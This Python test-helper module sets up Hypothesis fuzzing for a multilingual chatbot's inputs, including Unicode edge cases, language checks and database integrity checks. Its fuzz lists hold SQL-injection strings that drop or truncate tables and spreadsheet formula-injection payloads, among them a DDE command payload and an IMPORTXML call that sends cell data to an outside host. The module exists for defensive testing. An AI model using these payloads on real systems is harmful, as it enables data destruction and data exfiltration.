"""Strategies, budgets and checks for the input fuzzing in tests/test_fuzz_inputs.py.

`FUZZ_PROFILE=small` (default): a fixed, derandomised budget, so `make test` is deterministic
and quick. `FUZZ_PROFILE=reliability`: 25 times the examples, random seeds.
"""

from __future__ import annotations

import json
import os
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeVar

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from base import i18n, rtl
from referrals.lifecycle import referrals_of
from results.storage import stored_answers
from store.models import (
    Conversation,
    OutboxMessage,
    Referral,
    ReferralEvent,
    SurveyResponse,
    SurveyTextAnswer,
)

PROFILE = os.environ.get("FUZZ_PROFILE", "small")
if PROFILE not in ("small", "reliability"):
    raise ValueError(f"FUZZ_PROFILE must be small or reliability, not {PROFILE!r}")
FACTOR = 25 if PROFILE == "reliability" else 1

# Inputs tried per test (one example may hold many inputs); written at the end of the run.
TRIED: Counter[str] = Counter()
REPORT = Path(__file__).resolve().parent.parent / "test-artifacts" / "fuzz-inputs.json"

F = TypeVar("F", bound=Callable[..., Any])


def budget(examples: int) -> Callable[[F], F]:
    """Hypothesis settings for `examples` examples in the small profile (×25 otherwise)."""
    return settings(
        max_examples=examples * FACTOR,
        derandomize=PROFILE == "small",
        database=None,
        deadline=None,
        print_blob=True,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.function_scoped_fixture,
            HealthCheck.large_base_example,
        ],
    )


def write_report() -> dict[str, Any]:
    data = {"profile": PROFILE, "inputs": dict(sorted(TRIED.items())), "total": sum(TRIED.values())}
    REPORT.parent.mkdir(exist_ok=True)
    REPORT.write_text(json.dumps(data, indent=2) + "\n")
    return data


# ---------------------------------------------------------------- text strategies

# Every code point, lone surrogates (category Cs) included: a JSON body can carry "\ud800".
ANY_CHAR = st.characters(codec=None, categories=None)
CONTROL = st.sampled_from([chr(c) for c in [*range(0, 32), 127, *range(0x80, 0xA0)]])
BIDI = st.sampled_from(
    [*(chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))), "\u200e", "\u200f"]
)
ZERO_WIDTH = st.sampled_from(["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad"])
EMOJI = st.sampled_from(["😀", "👍🏽", "👨‍👩‍👧", "🇩🇪", "❤️", "🏳️‍🌈", "\U0001f9d1\u200d\U0001f4bb"])
# Zero of each digit system people may type in: ASCII, Arabic-Indic, Persian, Devanagari,
# Bengali, Thai, fullwidth, mathematical bold, Tibetan.
DIGIT_ZEROS = [0x30, 0x660, 0x6F0, 0x966, 0x9E6, 0xE50, 0xFF10, 0x1D7CE, 0xF20]
SQL = [
    "'; DROP TABLE conversation; --",
    "1; DELETE FROM survey_response",
    "' OR '1'='1",
    "Robert'); DROP TABLE outbox;--",
    '"; SELECT pg_sleep(10); --',
    "\\'; TRUNCATE referral CASCADE; --",
]
FORMULA = [
    '=HYPERLINK("http://evil.example","klick")',
    "=1+1",
    "+49 171 2345678",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
]
FORMULA_START = ("=", "+", "-", "@")


@st.composite
def numbers(draw: st.DrawFn) -> str:
    """A number in one digit system: small, in range, huge, signed, with a decimal part."""
    plain = draw(
        st.one_of(
            st.integers(0, 120).map(str),
            st.integers(10**15, 10**40).map(str),
            st.integers(300, 5000).map(lambda n: "9" * n),  # beyond float, beyond int()
        )
    )
    zero = draw(st.sampled_from(DIGIT_ZEROS))
    digits = "".join(chr(zero + int(d)) for d in plain)
    sign = draw(st.sampled_from(["", "", "+", "-"]))
    frac = draw(st.sampled_from(["", "", ",5", ".25", "٫5"]))
    return f"{sign}{digits}{frac}"


def long_texts() -> st.SearchStrategy[str]:
    piece = st.sampled_from(["a", "ب", "😀", "\u202e", "1", "Ü ", "\x00", "=", "ا "])
    return st.builds(lambda p, n: (p * n)[:10_000], piece, st.integers(1000, 10_000))


def mixed_text(max_size: int = 60) -> st.SearchStrategy[str]:
    """Text woven from the nasty pieces above and arbitrary code points."""
    piece = st.one_of(
        st.text(ANY_CHAR, max_size=8),
        CONTROL,
        BIDI,
        ZERO_WIDTH,
        EMOJI,
        numbers(),
        st.sampled_from(["ja", "nein", "wohnung", "Mörs", "نعم", "بله", "-", "1", "2", " "]),
    )
    return st.lists(piece, max_size=max_size // 4).map("".join)


def fuzz_texts() -> st.SearchStrategy[str]:
    return st.one_of(
        st.text(ANY_CHAR, max_size=80),
        mixed_text(),
        numbers(),
        st.sampled_from(SQL + FORMULA),
        long_texts(),
    )


# ---------------------------------------------------------------- answers in the right language

LOCALES = ("de", "ar", "fa", "en")  # German source, two right-to-left, one more
_ARABIC_SCRIPT = range(0x0600, 0x0700)


@st.composite
def locale(draw: st.DrawFn) -> str:
    return draw(st.sampled_from(LOCALES))


def _catalog_pairs(loc: str) -> list[tuple[str, str]]:
    """German source texts that have a real translation in `loc` (long enough to be unique)."""
    cat = i18n.catalog(loc)
    messages = getattr(cat, "_catalog", {})
    pairs = []
    for key, value in messages.items():
        msgid = key[1] if isinstance(key, tuple) else key
        msgid = msgid.split("\x04", 1)[-1] if isinstance(msgid, str) else ""
        if isinstance(value, str) and len(msgid) >= 25 and value and value != msgid:
            pairs.append((msgid, value))
    return pairs


_PAIRS: dict[str, list[tuple[str, str]]] = {}


def assert_in_language(payload: dict[str, Any], loc: str) -> None:
    """A rendered reply is in `loc`: right direction flag, the right script, and none of the
    German source texts that `loc` has a translation for."""
    text = str(payload.get("text", ""))
    assert text.strip(), f"empty reply: {payload!r}"
    if payload.get("ask") == "@language":  # the picker asks in several languages, own first
        text = text.split("\n", 1)[0]
    assert payload.get("rtl") is i18n.is_rtl(loc), payload
    if loc in ("ar", "fa"):
        assert any(ord(ch) in _ARABIC_SCRIPT for ch in text), f"no {loc} text: {text!r}"
        assert not rtl.bare_ltr(text), f"Latin outside isolates in {loc}: {text!r}"
    else:
        assert any(ch.isalpha() and ch.isascii() for ch in text), f"no {loc} text: {text!r}"
    if loc != i18n.SOURCE:
        pairs = _PAIRS.setdefault(loc, _catalog_pairs(loc))
        for msgid, _ in pairs:
            assert msgid not in text, f"untranslated German in {loc}: {msgid!r}"


# ---------------------------------------------------------------- database checks


async def snapshot(sessions: async_sessionmaker[AsyncSession], pseudonym: str) -> dict[str, Any]:
    """Everything the database holds for one conversation (to prove nothing else touched it)."""
    async with sessions() as s:
        conv = await s.scalar(select(Conversation).where(Conversation.pseudonym == pseudonym))
        if conv is None:
            return {}
        outbox = (
            await s.execute(
                select(OutboxMessage.id, OutboxMessage.payload, OutboxMessage.status)
                .where(OutboxMessage.conversation_id == conv.id)
                .order_by(OutboxMessage.id)
            )
        ).all()
        referrals = [
            (r.id, r.status, json.dumps(r.shared, sort_keys=True), r.contact_value, r.closed_at)
            for r in await referrals_of(s, conv.id)
        ]
        events = (
            await s.execute(
                select(ReferralEvent.id, ReferralEvent.kind, ReferralEvent.note)
                .join(Referral, Referral.id == ReferralEvent.referral_id)
                .where(Referral.conversation_id == conv.id)
                .order_by(ReferralEvent.id)
            )
        ).all()
        return {
            "referrals": referrals,
            "events": [tuple(e) for e in events],
            "state": json.dumps(conv.state, sort_keys=True),
            "locale": conv.locale,
            "address": conv.address,
            "updated_at": conv.updated_at,
            "outbox": [tuple(r) for r in outbox],
        }


async def check_integrity(sessions: async_sessionmaker[AsyncSession]) -> None:
    """No NUL or lone surrogate anywhere a person's text can land; no half-written rows."""
    async with sessions() as s:
        states = (await s.execute(select(Conversation.state))).scalars().all()
        payloads = (await s.execute(select(OutboxMessage.payload))).scalars().all()
        texts = (await s.execute(select(SurveyTextAnswer.text))).scalars().all()
        notes = (await s.execute(select(ReferralEvent.note))).scalars().all()
        responses = set((await s.execute(select(SurveyResponse.id))).scalars())
        answered = {a.response_id for a in await stored_answers(s)}
        orphans = (
            await s.execute(
                select(OutboxMessage.id)
                .outerjoin(Conversation, Conversation.id == OutboxMessage.conversation_id)
                .where(OutboxMessage.conversation_id.is_not(None), Conversation.id.is_(None))
            )
        ).all()
    dump = [json.dumps(v, ensure_ascii=False) for v in [*states, *payloads]]
    for blob in [*dump, *texts, *notes]:
        if blob is None:
            continue
        assert "\x00" not in blob and "\\u0000" not in blob, "NUL stored"
        assert not any("\ud800" <= ch <= "\udfff" for ch in blob), "lone surrogate stored"
    assert responses <= answered, "a survey response without answers"
    assert not orphans, "outbox rows of a conversation that does not exist"
